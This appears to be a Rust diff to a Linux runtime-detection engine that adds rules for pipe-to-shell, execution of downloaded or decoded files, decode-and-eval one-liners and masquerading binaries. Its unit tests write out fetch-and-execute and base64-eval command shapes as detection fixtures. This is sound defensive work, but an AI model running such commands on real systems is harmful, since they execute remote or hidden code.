@@ -4,6 +4,7 @@
 //! wrote it, what a socket is.
 
 use super::classify::*;
+use super::provenance::{Origin, Provenance};
 use super::Ctx;
 use crate::model::event::{Exec, ExecDenied, Payload, Stdio};
 use crate::model::{Finding, Severity};
@@ -38,6 +39,10 @@ pub mod ids {
     pub const PIPE_TO_SHELL: &str = "pipe_to_shell";
     /// The kernel refused an exec under the deny_exec policy.
     pub const EXEC_DENIED: &str = "exec_denied";
+    /// A file written by a decoder was executed or made executable.
+    pub const DECODED_EXEC: &str = "decoded_file_executed";
+    /// An interpreter one-liner decodes data and runs it, without a file.
+    pub const DECODE_AND_RUN: &str = "decode_and_execute";
 }
 
 fn finding(
@@ -73,6 +78,7 @@ pub fn run_all(ctx: &mut Ctx<'_>) -> Vec<Finding> {
             ld_preload(x, &mut out);
             miner_exec(ctx, x, &mut out);
             pipe_to_shell(ctx, x, &mut out);
+            decode_and_run(x, &mut out);
         }
         Payload::Connect(c) => {
             let exe = &ctx.ev.process.image.exe;
@@ -226,48 +232,106 @@ fn server_child(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     ));
 }
 
-fn ingress_exec(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
-    let key = (x.exe_dev, x.exe_ino);
-    let Some(p) = ctx.state.provenance.get_mut(&key) else {
-        return;
+/// The finding for running (or making executable) content that came from
+/// the network or a decoder: `what` says what was done to `path`.
+fn provenance_finding(p: &Provenance, what: String, path: &str) -> Finding {
+    let (rule, mitre): (&str, &[&str]) = match p.origin {
+        Origin::Network => (ids::INGRESS, &["T1105"]),
+        Origin::Decoded => (ids::DECODED_EXEC, &["T1140", "T1027"]),
     };
-    if !p.from_network || p.reported {
-        return;
-    }
-    p.reported = true;
-    out.push(finding(
-        ids::INGRESS,
+    finding(
+        rule,
         Severity::High,
-        &["T1105"],
+        mitre,
         format!(
-            "{} runs a file written by {} (pid {}), which fetched it over the network",
-            x.exe, p.exe, p.pid
+            "{what}; it was written by {} (pid {}), which {}",
+            p.writer.exe,
+            p.pid,
+            p.origin.verb()
         ),
         false,
-        &p.path.clone(),
-    ));
+        path,
+    )
+}
+
+fn ingress_exec(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
+    // The program itself, by inode (a rename or a move keeps it).
+    if let Some(p) = ctx.state.files.file((x.exe_dev, x.exe_ino)) {
+        if !p.reported {
+            p.reported = true;
+            let path = if p.path.is_empty() {
+                x.exe.clone()
+            } else {
+                p.path.clone()
+            };
+            let p = p.clone();
+            out.push(provenance_finding(&p, format!("{} runs", x.exe), &path));
+        }
+    }
+    // A script handed to its interpreter: `#!` (`script`) or on the
+    // command line (`sh FILE`, `python3 FILE`), by path.
+    let operand = x
+        .script
+        .clone()
+        .or_else(|| script_operand(&x.exe, &x.argv).map(|s| absolute(ctx.ev.event.pid, s)));
+    let Some(script) = operand else { return };
+    if let Some(p) = ctx.state.files.at_path(&script) {
+        if !p.reported {
+            p.reported = true;
+            let p = p.clone();
+            let mut f =
+                provenance_finding(&p, format!("{} runs the script {script}", x.exe), &script);
+            f.mitre.push(
+                if is_shell(&x.exe) {
+                    "T1059.004"
+                } else {
+                    "T1059"
+                }
+                .into(),
+            );
+            out.push(f);
+        }
+    }
+}
+
+/// `path` made absolute against `pid`'s working directory (as it is now).
+fn absolute(pid: u32, path: &str) -> String {
+    if path.starts_with('/') {
+        return path.to_string();
+    }
+    match std::fs::read_link(format!("/proc/{pid}/cwd")) {
+        Ok(cwd) => normalize_path(&cwd.join(path).to_string_lossy()),
+        Err(_) => path.to_string(),
+    }
+}
+
+/// `a/./b/../c` -> `a/c`.
+fn normalize_path(p: &str) -> String {
+    let mut parts: Vec<&str> = Vec::new();
+    for c in p.split('/') {
+        match c {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            c => parts.push(c),
+        }
+    }
+    format!("/{}", parts.join("/"))
 }
 
 fn ingress_chmod(ctx: &mut Ctx<'_>, path: &str, out: &mut Vec<Finding>) {
-    let Some(key) = ctx.state.provenance_path.peek(path).copied() else {
+    let Some(p) = ctx.state.files.at_path(path) else {
         return;
     };
-    let Some(p) = ctx.state.provenance.get_mut(&key) else {
-        return;
-    };
-    if !p.from_network || p.reported {
+    if p.reported {
         return;
     }
     p.reported = true;
-    out.push(finding(
-        ids::INGRESS,
-        Severity::High,
-        &["T1105"],
-        format!(
-            "{} made {path} executable; it was written by {} (pid {}), which fetched it over the network",
-            ctx.ev.process.image.exe, p.exe, p.pid
-        ),
-        false,
+    let p = p.clone();
+    out.push(provenance_finding(
+        &p,
+        format!("{} made {path} executable", ctx.ev.process.image.exe),
         path,
     ));
 }
@@ -277,7 +341,21 @@ fn masquerade(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     let argv0 = x.argv.first().map(|a| basename(a)).unwrap_or("");
     let real_file = !x.exe.starts_with("/memfd:") && !x.exe.is_empty();
     let mut why = None;
-    if real_file && is_borrowed_name(exe_name) && !in_system_dir(&x.exe) {
+    let placed = (real_file && in_system_dir(&x.exe))
+        .then(|| ctx.state.files.peek_file((x.exe_dev, x.exe_ino)))
+        .flatten();
+    if let Some(p) = placed {
+        // Content fetched or decoded by a user's tool does not belong in a
+        // system directory under a system-looking name.
+        why = Some(format!(
+            "{} runs from the system directory {}, but was written by {} (pid {}), which {}",
+            x.exe,
+            dirname(&x.exe),
+            p.writer.exe,
+            p.pid,
+            p.origin.verb()
+        ));
+    } else if real_file && is_borrowed_name(exe_name) && !in_system_dir(&x.exe) {
         why = Some(format!(
             "{} carries the name of a system program but runs from {}",
             exe_name,
@@ -308,7 +386,6 @@ fn masquerade(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
         ));
     }
     if let Some(why) = why {
-        let _ = ctx;
         out.push(finding(
             ids::MASQUERADE,
             Severity::High,
@@ -464,89 +541,100 @@ fn miner_exec(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
     }
 }
 
+fn pipe_finding(kind: Origin, detail: String) -> Finding {
+    let (mitre, what): (&[&str], _) = match kind {
+        Origin::Decoded => (&["T1140", "T1027", "T1059.004"], "decoded"),
+        Origin::Network => (&["T1105", "T1059.004"], "downloaded"),
+    };
+    finding(
+        ids::PIPE_TO_SHELL,
+        Severity::High,
+        mitre,
+        format!("{what} content is fed to a shell: {detail}"),
+        false,
+        "",
+    )
+}
+
+/// A shell reading its commands from standard input (not `sh -c`).
+fn shell_reading_input(exe: &str, argv: &[String]) -> bool {
+    is_shell(exe) && shell_command(exe, argv).is_none() && script_operand(exe, argv).is_none()
+}
+
 fn pipe_to_shell(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
-    // The whole pipeline in one `sh -c` string.
+    // The whole pipeline in one `sh -c` string: judged before any of its
+    // processes run (the freeze can stop the shell there).
     if let Some(cmd) = shell_command(&x.exe, &x.argv) {
         if let Some(kind) = pipes_into_shell(&cmd) {
-            let (mitre, what): (&[&str], _) = if kind == "decode" {
-                (&["T1140", "T1027", "T1059.004"], "decoded")
+            let kind = if kind == "decode" {
+                Origin::Decoded
             } else {
-                (&["T1059.004", "T1105"], "downloaded")
+                Origin::Network
             };
-            out.push(finding(
-                ids::PIPE_TO_SHELL,
-                Severity::High,
-                mitre,
-                format!("shell pipes {what} content into a shell: {cmd}"),
-                false,
-                "",
+            out.push(pipe_finding(kind, cmd));
+            return;
+        }
+    }
+    // Processes joined by one pipe, the writer carrying fetched or decoded
+    // content, the reader a shell (either may exec first).
+    let e = &ctx.ev.event;
+    for j in ctx.state.joins.clone() {
+        let reader = if j.reader_pid == e.pid {
+            Some((x.exe.clone(), x.argv.clone()))
+        } else {
+            ctx.tree
+                .get(j.reader_pid)
+                .map(|p| (p.image.exe.clone(), p.image.argv.clone()))
+        };
+        let Some((rexe, rargv)) = reader else {
+            continue;
+        };
+        if shell_reading_input(&rexe, &rargv) {
+            out.push(pipe_finding(
+                j.taint.origin,
+                format!(
+                    "{} (pid {}) into {} (pid {})",
+                    j.taint.source.exe, j.taint.source_pid, rexe, j.reader_pid
+                ),
             ));
             return;
         }
     }
-    // A pipeline built by a parent shell: a decoder or downloader and a shell
-    // reading a pipe, siblings started together.
-    let e = &ctx.ev.event;
-    let source = if is_decoder(&x.exe, &x.argv) {
-        Some(PipeSource::Decoder)
-    } else if is_downloader(&x.exe) {
-        Some(PipeSource::Downloader)
-    } else {
-        None
-    };
-    let piped_shell =
-        is_shell(&x.exe) && x.stdio[0] == Stdio::Pipe && shell_command(&x.exe, &x.argv).is_none();
-    if source.is_none() && !piped_shell {
-        return;
-    }
-    let q = &mut ctx.state.recent_pipeline;
-    let window = 2_000_000_000u64;
-    while q
-        .front()
-        .is_some_and(|f| e.boot_ns.saturating_sub(f.1) > window)
-    {
-        q.pop_front();
-    }
-    // Pair a source with a shell (either may exec first).
-    let partner = q
-        .iter()
-        .position(|&(ppid, _, other, _)| ppid == x.ppid && (other.is_some() != source.is_some()));
-    match partner {
-        Some(i) => {
-            let (_, _, other, other_pid) = q.remove(i).expect("index from position");
-            let kind = source.or(other).expect("one side is a source");
-            let (mitre, what): (&[&str], _) = match kind {
-                PipeSource::Decoder => (&["T1140", "T1027", "T1059.004"], "decoded"),
-                PipeSource::Downloader => (&["T1105", "T1059.004"], "downloaded"),
-            };
-            out.push(finding(
-                ids::PIPE_TO_SHELL,
-                Severity::High,
-                mitre,
-                format!(
-                    "{what} content piped into a shell (pids {} and {other_pid})",
-                    e.pid
-                ),
-                false,
-                "",
-            ));
-        }
-        None => {
-            if q.len() >= 256 {
-                q.pop_front();
+    // A wrapper read the pipe and started the shell (`| sudo bash`, where
+    // sudo may hand the shell a terminal of its own instead of the pipe).
+    if shell_reading_input(&x.exe, &x.argv) {
+        let parent = ctx.tree.get(x.ppid);
+        if let Some(p) = parent.filter(|p| is_wrapper(&p.image.exe)) {
+            if let Some(t) = ctx.state.files.taint(p.pid).cloned() {
+                out.push(pipe_finding(
+                    t.origin,
+                    format!(
+                        "{} (pid {}) into {} through {}",
+                        t.source.exe, t.source_pid, x.exe, p.image.exe
+                    ),
+                ));
             }
-            q.push_back((x.ppid, e.boot_ns, source, e.pid));
         }
     }
 }
 
-/// What feeds a shell through a pipe.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub enum PipeSource {
-    /// base64 -d and friends.
-    Decoder,
-    /// curl, wget and friends.
-    Downloader,
+/// An interpreter one-liner that decodes data and runs it as code or a
+/// command, leaving no file behind.
+fn decode_and_run(x: &Exec, out: &mut Vec<Finding>) {
+    if decodes_and_runs(&x.exe, &x.argv) {
+        out.push(finding(
+            ids::DECODE_AND_RUN,
+            Severity::High,
+            &["T1140", "T1027", "T1059"],
+            format!(
+                "{} decodes data and runs it in one step: {}",
+                x.exe,
+                crate::detect::normalize::argv_shape(&x.argv)
+            ),
+            false,
+            "",
+        ));
+    }
 }
 
 #[cfg(test)]
@@ -555,7 +643,7 @@ mod tests {
     use std::time::Duration;
 
     use super::*;
-    use crate::detect::{DetectState, Provenance};
+    use crate::detect::DetectState;
     use crate::model::event::{Chmod, Connect, Event, FileOpen};
     use crate::model::workload::Workload;
     use crate::model::{EnrichedEvent, ProcessView};
@@ -613,6 +701,7 @@ mod tests {
         }
 
         fn run(&mut self, ev: EnrichedEvent) -> Vec<Finding> {
+            self.state.before(&ev);
             let mut ctx = Ctx {
                 ev: &ev,
                 tree: &self.tree,
@@ -646,6 +735,7 @@ mod tests {
                 ld_preload: None,
                 stdio: [Stdio::CharDevice; 3],
                 frozen: false,
+                ..Default::default()
             };
             f(&mut x);
             let ev = self.event(pid, Payload::Exec(x));
@@ -811,9 +901,9 @@ mod tests {
         w.run(ev);
         assert!(w
             .state
-            .provenance
-            .peek(&(9, 99))
-            .is_some_and(|p: &Provenance| p.from_network));
+            .files
+            .peek_file((9, 99))
+            .is_some_and(|p| p.origin == Origin::Network));
     }
 
     #[test]
@@ -943,29 +1033,363 @@ mod tests {
         assert!(f.is_empty());
     }
 
+    /// Sets fd `fd` of an exec to a pipe with inode `ino`.
+    fn piped(x: &mut Exec, fd: usize, ino: u64) {
+        x.stdio[fd] = Stdio::Pipe;
+        x.stdio_ids.ino[fd] = ino;
+        x.stdio_ids.dev[fd] = 12;
+    }
+
+    /// Sets fd 1 of an exec to the regular file (dev, ino).
+    fn redirected(x: &mut Exec, dev: u32, ino: u64) {
+        x.stdio[1] = Stdio::File;
+        x.stdio_ids.ino[1] = ino;
+        x.stdio_ids.dev[1] = dev;
+    }
+
+    fn open_for_write(w: &mut World, pid: u32, path: &str, dev: u32, ino: u64) -> Vec<Finding> {
+        let ev = w.event(
+            pid,
+            Payload::FileOpen(FileOpen {
+                path: path.into(),
+                flags: 0o1101,
+                mode: 0o100644,
+                ino,
+                dev,
+            }),
+        );
+        w.run(ev)
+    }
+
     #[test]
-    fn decoded_pipe_into_shell() {
+    fn processes_joined_by_one_pipe_feed_a_shell_whichever_execs_first() {
+        // Decoder first, then the shell reading its pipe.
         let mut w = World::new();
-        w.exec(900, 1, "/usr/bin/bash", &["bash", "script.sh"]);
-        let f = w.exec(901, 900, "/usr/bin/base64", &["base64", "-d"]);
-        assert!(f.is_empty());
-        let f = w.exec_full(902, 900, "/usr/bin/dash", &["sh"], |x| {
-            x.stdio = [Stdio::Pipe, Stdio::CharDevice, Stdio::CharDevice]
+        w.exec(900, 1, "/usr/bin/bash", &["bash", "job.sh"]);
+        let f = w.exec_full(901, 900, "/usr/bin/base64", &["base64", "-d"], |x| {
+            piped(x, 1, 7001)
+        });
+        assert!(f.is_empty(), "{f:?}");
+        let f = w.exec_full(902, 900, "/usr/bin/dash", &["sh"], |x| piped(x, 0, 7001));
+        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
+        assert!(f[0].mitre.contains(&"T1140".to_string()));
+        // Shell first (the parent forks both; either may exec first), an
+        // unusual shell and downloader.
+        let f = w.exec_full(904, 900, "/usr/bin/ksh93", &["ksh"], |x| piped(x, 0, 7002));
+        assert!(f.is_empty(), "{f:?}");
+        let f = w.exec_full(903, 900, "/opt/bin/wget", &["wget", "-qO-", "h"], |x| {
+            piped(x, 1, 7002)
+        });
+        assert!(f.is_empty(), "ksh93 is not a shell by name: {f:?}");
+        let f = w.exec_full(906, 900, "/usr/bin/mksh", &["mksh"], |x| piped(x, 0, 7003));
+        assert!(f.is_empty(), "{f:?}");
+        let f = w.exec_full(905, 900, "/opt/bin/wget", &["wget", "-qO-", "h"], |x| {
+            piped(x, 1, 7003)
         });
         assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
-        let f = w.exec(
-            903,
-            900,
-            "/usr/bin/dash",
-            &["sh", "-c", "echo aWQ= | base64 -d | sh"],
-        );
-        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL));
-        // Near miss: `git log | less` style pipelines.
-        w.exec(910, 1, "/usr/bin/bash", &["bash"]);
-        w.exec(911, 910, "/usr/bin/git", &["git", "log"]);
-        let f = w.exec_full(912, 910, "/usr/bin/less", &["less"], |x| {
-            x.stdio = [Stdio::Pipe, Stdio::CharDevice, Stdio::CharDevice]
+        // Through a middle stage: curl | gunzip | sh.
+        w.exec_full(910, 900, "/usr/bin/curl", &["curl", "-s", "h"], |x| {
+            piped(x, 1, 7010)
         });
-        assert!(f.is_empty());
+        w.exec_full(911, 900, "/usr/bin/gunzip", &["gunzip"], |x| {
+            piped(x, 0, 7010);
+            piped(x, 1, 7011);
+        });
+        let f = w.exec_full(912, 900, "/bin/bash", &["bash", "-s", "--", "x"], |x| {
+            piped(x, 0, 7011)
+        });
+        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
+
+        // Near misses: a downloader piped into a non-shell (shuf, less), a
+        // shell reading a pipe fed by something else, siblings on different
+        // pipes, and a shell given a script file.
+        let mut w = World::new();
+        w.exec(920, 1, "/usr/bin/bash", &["bash"]);
+        w.exec_full(921, 920, "/usr/bin/curl", &["curl", "h"], |x| {
+            piped(x, 1, 8001)
+        });
+        let f = w.exec_full(922, 920, "/usr/bin/shuf", &["shuf"], |x| piped(x, 0, 8001));
+        assert!(f.is_empty(), "{f:?}");
+        w.exec_full(923, 920, "/usr/bin/git", &["git", "log"], |x| {
+            piped(x, 1, 8002)
+        });
+        let f = w.exec_full(924, 920, "/usr/bin/dash", &["sh"], |x| piped(x, 0, 8002));
+        assert!(f.is_empty(), "{f:?}");
+        w.exec_full(925, 920, "/usr/bin/curl", &["curl", "h"], |x| {
+            piped(x, 1, 8003)
+        });
+        let f = w.exec_full(926, 920, "/usr/bin/dash", &["sh"], |x| piped(x, 0, 8004));
+        assert!(f.is_empty(), "{f:?}");
+        w.exec_full(927, 920, "/usr/bin/curl", &["curl", "h"], |x| {
+            piped(x, 1, 8005)
+        });
+        let f = w.exec_full(928, 920, "/usr/bin/dash", &["sh", "build.sh"], |x| {
+            piped(x, 0, 8005)
+        });
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn a_wrapper_between_the_pipe_and_the_shell_is_looked_through() {
+        let mut w = World::new();
+        w.exec(930, 1, "/usr/bin/bash", &["bash"]);
+        w.exec_full(931, 930, "/usr/bin/curl", &["curl", "-fsSL", "h"], |x| {
+            piped(x, 1, 9001)
+        });
+        w.exec_full(932, 930, "/usr/bin/sudo", &["sudo", "-E", "bash"], |x| {
+            piped(x, 0, 9001)
+        });
+        // sudo's child shell on a terminal of its own.
+        let f = w.exec_full(933, 932, "/usr/bin/bash", &["bash"], |x| {
+            x.stdio[0] = Stdio::CharDevice
+        });
+        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
+        // Near miss: sudo reading an ordinary pipe.
+        w.exec_full(941, 930, "/usr/bin/cat", &["cat", "f"], |x| {
+            piped(x, 1, 9002)
+        });
+        w.exec_full(942, 930, "/usr/bin/sudo", &["sudo", "tee", "/x"], |x| {
+            piped(x, 0, 9002)
+        });
+        let f = w.exec(943, 942, "/usr/bin/bash", &["bash"]);
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn command_strings_feeding_shells_are_read_by_structure() {
+        for (cmd, kind) in [
+            ("echo aWQ= | base64 -d | sh", Some("decode")),
+            ("curl -s http://h/i |/bin/sh", Some("download")),
+            ("wget -qO- h | sudo -u root bash -s", Some("download")),
+            ("curl h|ksh", Some("download")),
+            ("X=1 curl h | env -i PATH=/bin dash", Some("download")),
+            ("xxd -r -p <<< 6964 | busybox sh", Some("decode")),
+            ("sh -c \"$(curl -fsSL h)\"", Some("download")),
+            ("bash <(wget -O- h)", Some("download")),
+            ("eval `echo aWQ= | base64 --decode`", Some("decode")),
+            // Near misses.
+            ("curl -s h | shuf", None),
+            ("curl -s h | jq . | tee out.json", None),
+            ("base64 -d x > y && sha256sum y", None),
+            ("echo $(curl -s h/status)", None),
+            ("cat install.sh | sh", None),
+            ("curl h -o x || sh fallback.sh", None),
+        ] {
+            assert_eq!(pipes_into_shell(cmd), kind, "{cmd}");
+        }
+    }
+
+    #[test]
+    fn a_redirected_download_or_decode_is_tied_to_its_file() {
+        // `curl URL > out; chmod +x out; ./out`: the shell opens `out`
+        // before it execs curl.
+        let mut w = World::new();
+        w.exec(950, 1, "/usr/bin/bash", &["bash"]);
+        w.event(951, Payload::Fork { ppid: 950 });
+        w.exec(951, 950, "/usr/bin/bash", &["bash"]);
+        open_for_write(&mut w, 951, "/srv/app/tmp/out", 5, 4242);
+        w.exec_full(951, 950, "/usr/bin/curl", &["curl", "-s", "h"], |x| {
+            redirected(x, 5, 4242)
+        });
+        let ev = w.event(
+            950,
+            Payload::Chmod(Chmod {
+                path: "/srv/app/tmp/out".into(),
+                mode: 0o755,
+            }),
+        );
+        let f = w.run(ev);
+        assert!(rules(&f).contains(&ids::INGRESS), "{f:?}");
+        // A decoder's output, run by inode after a move.
+        open_for_write(&mut w, 960, "/srv/app/p.bin", 5, 5151);
+        w.exec_full(960, 950, "/usr/bin/base64", &["base64", "-di"], |x| {
+            redirected(x, 5, 5151)
+        });
+        let ev = w.event(
+            950,
+            Payload::Rename(crate::model::event::Rename {
+                old_path: "/srv/app/p.bin".into(),
+                new_path: "/srv/app/worker".into(),
+            }),
+        );
+        w.run(ev);
+        let f = w.exec_full(961, 950, "/srv/app/worker", &["worker"], |x| {
+            x.exe_dev = 5;
+            x.exe_ino = 5151;
+        });
+        assert!(rules(&f).contains(&ids::DECODED_EXEC), "{f:?}");
+        // Near miss: the same shape with `cat` (no network, no decoding).
+        open_for_write(&mut w, 970, "/srv/app/copy", 5, 6161);
+        w.exec_full(970, 950, "/usr/bin/cat", &["cat", "a"], |x| {
+            redirected(x, 5, 6161)
+        });
+        let f = w.exec_full(971, 950, "/srv/app/copy", &["copy"], |x| {
+            x.exe_dev = 5;
+            x.exe_ino = 6161;
+        });
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn a_downloaded_script_handed_to_an_interpreter_is_ingress() {
+        let mut w = World::new();
+        w.exec(980, 1, "/usr/bin/bash", &["bash"]);
+        w.exec(981, 980, "/usr/bin/wget", &["wget", "-q", "h/s.py"]);
+        open_for_write(&mut w, 981, "/opt/svc/s.py", 6, 777);
+        let f = w.exec(
+            982,
+            980,
+            "/usr/bin/python3.12",
+            &["python3", "-u", "/opt/svc/s.py", "a"],
+        );
+        assert!(rules(&f).contains(&ids::INGRESS), "{f:?}");
+        assert!(f.iter().any(|f| f.mitre.contains(&"T1059".to_string())));
+        // The same file again is reported once.
+        let f = w.exec(
+            983,
+            980,
+            "/usr/bin/python3.12",
+            &["python3", "/opt/svc/s.py"],
+        );
+        assert!(f.is_empty(), "{f:?}");
+        // sh FILE, by a shell.
+        w.exec(
+            984,
+            980,
+            "/usr/bin/curl",
+            &["curl", "-o", "/var/tmp/i", "h"],
+        );
+        open_for_write(&mut w, 984, "/var/tmp/i", 6, 778);
+        let f = w.exec(985, 980, "/usr/bin/dash", &["sh", "-e", "/var/tmp/i"]);
+        assert!(rules(&f).contains(&ids::INGRESS), "{f:?}");
+        // Near misses: a script the user wrote, and `sh -c` naming the file
+        // as an argument of a command (not run by the shell).
+        w.exec(986, 980, "/usr/bin/vim", &["vim", "/opt/svc/t.py"]);
+        open_for_write(&mut w, 986, "/opt/svc/t.py", 6, 779);
+        let f = w.exec(987, 980, "/usr/bin/python3", &["python3", "/opt/svc/t.py"]);
+        assert!(f.is_empty(), "{f:?}");
+        w.exec(
+            988,
+            980,
+            "/usr/bin/curl",
+            &["curl", "-o", "/var/tmp/j", "h"],
+        );
+        open_for_write(&mut w, 988, "/var/tmp/j", 6, 780);
+        let f = w.exec(
+            989,
+            980,
+            "/usr/bin/dash",
+            &["sh", "-c", "sha256sum /var/tmp/j"],
+        );
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn a_download_moved_into_a_system_directory_is_masquerading() {
+        let mut w = World::new();
+        w.exec(990, 1, "/usr/bin/bash", &["bash"]);
+        w.exec(
+            991,
+            990,
+            "/usr/bin/curl",
+            &["curl", "-o", "/dev/shm/u", "h"],
+        );
+        open_for_write(&mut w, 991, "/dev/shm/u", 7, 31);
+        let ev = w.event(
+            990,
+            Payload::Rename(crate::model::event::Rename {
+                old_path: "/dev/shm/u".into(),
+                new_path: "/usr/local/sbin/netd".into(),
+            }),
+        );
+        w.run(ev);
+        let f = w.exec_full(992, 1, "/usr/local/sbin/netd", &["netd"], |x| {
+            x.exe_dev = 7;
+            x.exe_ino = 31;
+        });
+        let r = rules(&f);
+        assert!(r.contains(&ids::MASQUERADE), "{r:?}");
+        // Near miss: a package manager's file in the same place.
+        w.exec(993, 1, "/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]);
+        open_for_write(&mut w, 993, "/usr/local/sbin/other", 7, 32);
+        let f = w.exec_full(994, 1, "/usr/local/sbin/other", &["other"], |x| {
+            x.exe_dev = 7;
+            x.exe_ino = 32;
+        });
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn one_liners_that_decode_and_run_are_flagged_and_plain_ones_are_not() {
+        let mut w = World::new();
+        w.exec(1000, 1, "/usr/bin/bash", &["bash"]);
+        for argv in [
+            &[
+                "python3",
+                "-c",
+                "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
+            ][..],
+            &[
+                "perl",
+                "-MMIME::Base64",
+                "-e",
+                "eval(decode_base64('cHJpbnQgMQ=='))",
+            ],
+            &[
+                "node",
+                "-e",
+                "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())",
+            ],
+            &["php", "-r", "eval(base64_decode('ZWNobyAxOw=='));"],
+        ] {
+            let exe = format!("/usr/bin/{}", argv[0]);
+            let f = w.exec(1001, 1000, &exe, argv);
+            assert!(rules(&f).contains(&ids::DECODE_AND_RUN), "{argv:?}: {f:?}");
+        }
+        for argv in [
+            &[
+                "python3",
+                "-c",
+                "import base64;print(base64.b64decode('aGk='))",
+            ][..],
+            &["python3", "-c", "exec(open('setup.py').read())"],
+            &["perl", "-e", "print 1"],
+        ] {
+            let exe = format!("/usr/bin/{}", argv[0]);
+            let f = w.exec(1002, 1000, &exe, argv);
+            assert!(!rules(&f).contains(&ids::DECODE_AND_RUN), "{argv:?}: {f:?}");
+        }
+    }
+
+    #[test]
+    fn script_operands_are_found_and_one_liners_are_not_scripts() {
+        let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+        let cases: &[(&str, &[&str], Option<&str>)] = &[
+            ("/bin/sh", &["sh", "x.sh"], Some("x.sh")),
+            (
+                "/bin/bash",
+                &["bash", "-x", "-o", "pipefail", "/t/a"],
+                Some("/t/a"),
+            ),
+            ("/bin/bash", &["bash", "-c", "a b"], None),
+            ("/bin/bash", &["bash", "-ec", "a"], None),
+            ("/bin/bash", &["bash", "-s", "x"], None),
+            (
+                "/usr/bin/python3",
+                &["python3", "-W", "ignore", "m.py"],
+                Some("m.py"),
+            ),
+            ("/usr/bin/python3", &["python3", "-m", "http.server"], None),
+            (
+                "/usr/bin/node",
+                &["node", "-r", "ts-node/register", "a.ts"],
+                Some("a.ts"),
+            ),
+            ("/usr/bin/perl", &["perl", "-e", "1"], None),
+            ("/usr/bin/curl", &["curl", "x"], None),
+        ];
+        for (exe, argv, want) in cases {
+            assert_eq!(script_operand(exe, &v(argv)), *want, "{argv:?}");
+        }
     }
 }
